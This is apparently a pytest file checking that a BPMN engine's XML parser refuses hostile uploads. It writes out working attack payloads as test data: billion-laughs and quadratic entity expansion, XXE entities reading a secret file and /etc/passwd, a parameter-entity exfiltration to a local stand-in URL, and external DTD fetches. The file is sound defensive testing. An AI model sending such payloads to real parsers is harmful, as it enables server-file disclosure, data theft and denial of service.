"""An uploaded BPMN file must never expand entities, read server files, fetch URLs or eat memory."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from lxml import etree

from engine.procedures.loader import validate_source
from engine.procedures.xml import MAX_SOURCE_BYTES, UnsafeXmlError, parse_xml

DOCTYPE_REFUSED = "DOCTYPE declarations are not allowed (entity expansion / external entities)"
MINIMAL = b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>'


def refused(source: bytes) -> str:
    """The refusal message, checked to come fast and as one line."""
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError) as err:
        parse_xml(source)
    assert time.perf_counter() - started < 1.0
    message = str(err.value)
    assert "\n" not in message
    return message


def billion_laughs(levels: int = 10) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, levels):
        entities.append(b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1)) * 10))
    return (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + b"\n".join(entities)
            + b"\n]>\n<lolz>&lol%d;</lolz>" % (levels - 1))


def test_billion_laughs_is_refused_fast() -> None:
    assert refused(billion_laughs()) == DOCTYPE_REFUSED


def test_billion_laughs_behind_a_prolog_comment_is_refused_fast() -> None:
    prolog = b'<?xml version="1.0"?><!-- <bpmn:definitions> --><?pi <a>?>'
    source = prolog + billion_laughs().split(b"?>", 1)[1]
    assert refused(source) == DOCTYPE_REFUSED


def test_quadratic_blowup_is_refused_fast() -> None:
    big = b"A" * 100_000
    source = (b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "' + big + b'">]><kaboom>'
              + b"&a;" * 10_000 + b"</kaboom>")
    assert refused(source) == DOCTYPE_REFUSED


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-CONTENT")
    return path


def test_xxe_file_is_refused_without_reading_it(secret_file: Path) -> None:
    source = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'
              f'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</definitions>').encode()
    message = refused(source)
    assert message == DOCTYPE_REFUSED
    assert "TOP-SECRET" not in message
    problems = validate_source(source, "xxe.bpmn")
    assert [str(p) for p in problems] == [f"xxe.bpmn: {DOCTYPE_REFUSED}"]


def test_xxe_etc_passwd_is_refused() -> None:
    source = (b'<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
              b"<foo>&xxe;</foo>")
    message = refused(source)
    assert "root:" not in message


def test_parameter_entities_are_refused(secret_file: Path) -> None:
    source = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % file SYSTEM "file://{secret_file}">'
              f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:9/?x=%file;\'>">%eval;%exfil;]>'
              f"<d/>").encode()
    assert refused(source) == DOCTYPE_REFUSED


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server that records every request: nothing may ever reach it."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY x "fetched">')

        def log_message(self, *args: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_xxe_url_is_refused_without_fetching(listener: tuple[str, list[str]]) -> None:
    url, hits = listener
    source = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "{url}/xxe">]><d>&xxe;</d>'.encode()
    assert refused(source) == DOCTYPE_REFUSED
    assert hits == []


def test_external_dtd_is_refused_without_fetching(listener: tuple[str, list[str]]) -> None:
    url, hits = listener
    source = f'<?xml version="1.0"?><!DOCTYPE d SYSTEM "{url}/evil.dtd"><d>&x;</d>'.encode()
    assert refused(source) == DOCTYPE_REFUSED
    public = f'<!DOCTYPE d PUBLIC "-//EVIL//DTD//EN" "{url}/evil.dtd"><d/>'.encode()
    assert refused(public) == DOCTYPE_REFUSED
    assert hits == []


def test_doctype_in_utf16_is_refused() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    source = text.encode("utf-16")
    assert refused(source) == DOCTYPE_REFUSED


def test_plain_doctype_without_entities_is_refused() -> None:
    assert refused(b"<!DOCTYPE definitions>" + MINIMAL) == DOCTYPE_REFUSED


def test_undeclared_entity_is_not_xml() -> None:
    assert refused(b"<a>&foo;</a>").startswith("not XML: Entity 'foo' not defined")


def test_xinclude_is_never_processed(secret_file: Path) -> None:
    source = (f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{secret_file}" '
              f'parse="text"/></a>').encode()
    tree = parse_xml(source)
    assert b"TOP-SECRET" not in etree.tostring(tree)


@pytest.mark.parametrize(
    ("source", "start"),
    [
        (b"this is not xml", "not XML: Start tag expected, '<' not found, line 1"),
        (b"<a><b></a>", "not XML: Opening and ending tag mismatch"),
        (b"<a>\n\n<b>", "not XML: "),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not XML: "),
        (b"<!-- only a comment", "not XML: "),
    ],
)
def test_not_xml(source: bytes, start: str) -> None:
    message = refused(source)
    assert message.startswith(start)
    assert "line" in message


def test_not_xml_names_the_line() -> None:
    assert "line 3" in refused(b"<a>\n<b/>\n</c>")


@pytest.mark.parametrize("source", [b"", b"   \n\t "])
def test_empty_file(source: bytes) -> None:
    assert refused(source) == "not XML: the file is empty"
    assert [p.message for p in validate_source(source, "empty.bpmn")] == ["not XML: the file is empty"]


def test_huge_file_is_refused_before_parsing() -> None:
    source = b"<a>" + b"x" * MAX_SOURCE_BYTES + b"</a>"
    message = refused(source)
    assert message.startswith("file is too large")
    assert "5,242,880" in message


def test_deeply_nested_elements_are_refused() -> None:
    depth = 100_000
    assert refused(b"<a>" * depth + b"</a>" * depth).startswith("not XML: ")


def test_not_bytes_is_refused() -> None:
    with pytest.raises(UnsafeXmlError, match="expected the file's bytes"):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_doctype_text_in_the_body_is_fine() -> None:
    tree = parse_xml(b"<a><!-- an example: <!DOCTYPE x> --><![CDATA[<!DOCTYPE y>]]></a>")
    assert tree.getroot().tag == "a"
    assert tree.docinfo.doctype == ""


def test_not_bpmn_root() -> None:
    problems = validate_source(b"<html/>", "page.bpmn")
    assert len(problems) == 1
    assert str(problems[0]).startswith("page.bpmn: not a BPMN 2.0 file: the root element is 'html'")
